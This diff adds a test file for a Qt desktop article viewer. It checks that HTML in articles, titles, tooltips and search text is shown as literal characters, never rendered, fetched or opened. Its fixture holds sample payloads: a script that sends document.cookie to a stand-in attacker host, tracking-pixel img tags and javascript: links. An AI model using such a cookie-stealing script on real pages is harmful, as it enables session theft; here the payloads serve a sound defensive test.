@@ -1,0 +1,104 @@
+"""Markup in an article is text: never rendered, never fetched, never run.
+
+A saved page or a pasted article can hold ``<script>``, ``<img src=...>`` or
+``<a href=javascript:...>``; the window must show those characters as they are, in the
+article view, the quote list's tooltips, the header and the quote list's title.
+"""
+
+from __future__ import annotations
+
+import pytest
+from PySide6.QtCore import Qt
+from PySide6.QtGui import QDesktopServices, QTextDocument
+
+from core.document import Metadata
+from core.ingest import analyse
+from core.library import Library
+from gui.main_window import MainWindow
+
+HOSTILE = (
+    "Markup <b>in</b> the page\n\n"
+    "<script>fetch('http://attacker.invalid/?c=' + document.cookie)</script>\n\n"
+    '\u201cWe will never <img src="http://attacker.invalid/pixel.png"> pay for it,\u201d'
+    " said Mayor Jane Roe.\n\n"
+    '\u201cClick <a href="javascript:alert(1)">here</a> for the plan,\u201d Roe added.'
+    " &amp; <i>done</i> &lt;\n"
+)
+TITLE = "<img src=http://attacker.invalid/t.png>Title"
+
+
+@pytest.fixture
+def hostile_window(qtbot, library: Library, window_factory) -> MainWindow:  # noqa: ANN001
+    library.add_article(
+        analyse(HOSTILE, Metadata(title=TITLE, url="javascript:alert(1)")), "/tmp/<b>x</b>.txt"
+    )
+    return window_factory()
+
+
+@pytest.fixture
+def window_factory(qtbot, library: Library):  # noqa: ANN001, ANN201
+    from gui.app import application, open_window
+
+    def make() -> MainWindow:
+        application()
+        win = open_window(library)
+        qtbot.addWidget(win)
+        win.show()
+        return win
+
+    return make
+
+
+def markup_in(document: QTextDocument) -> list[str]:
+    """Every image and link in a Qt text document: an article view must hold none."""
+    found = []
+    block = document.begin()
+    while block.isValid():
+        it = block.begin()
+        while not it.atEnd():
+            fragment = it.fragment()
+            fmt = fragment.charFormat()
+            if fmt.isImageFormat() or fmt.isAnchor():
+                found.append(fragment.text())
+            it += 1
+        block = block.next()
+    return found
+
+
+def test_article_markup_is_shown_as_text(hostile_window: MainWindow) -> None:
+    window = hostile_window
+    texts = [window.quotes.row(i).text for i in range(window.quotes.rowCount())]
+    assert any(t.startswith("We will never <img") for t in texts)
+    window.quote_view.setCurrentIndex(window.quotes.index(0, 0))
+    shown = window.article.text
+    assert shown.toPlainText() == HOSTILE
+    assert markup_in(shown.document()) == []
+    assert window.article.text.document().toPlainText().count("<script>") == 1
+    header = window.article.header.text()
+    assert "<img" not in header and "&lt;img src=http://attacker.invalid/t.png&gt;" in header
+    assert "javascript:" not in header.split("href=")[0]
+
+
+def test_tooltips_and_titles_show_markup_as_text(hostile_window: MainWindow) -> None:
+    window = hostile_window
+    for row in range(window.quotes.rowCount()):
+        tip = window.quotes.data(window.quotes.index(row, 0), Qt.ItemDataRole.ToolTipRole)
+        document = QTextDocument()
+        document.setHtml(tip)
+        assert window.quotes.row(row).text in document.toPlainText()
+        assert markup_in(document) == []
+    window.search.setText('<img src="http://attacker.invalid/s.png"> never')
+    window._apply_quote_filters()
+    title = window.quote_title.text()
+    assert "<img" not in title and "&lt;img" in title
+
+
+def test_a_javascript_link_is_never_opened(
+    hostile_window: MainWindow, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    opened: list[str] = []
+    monkeypatch.setattr(QDesktopServices, "openUrl", lambda url: opened.append(url.toString()))
+    monkeypatch.setattr("gui.main_window.QMessageBox.information", lambda *a: None)
+    hostile_window.quote_view.setCurrentIndex(hostile_window.quotes.index(0, 0))
+    hostile_window.open_article()
+    assert opened == []
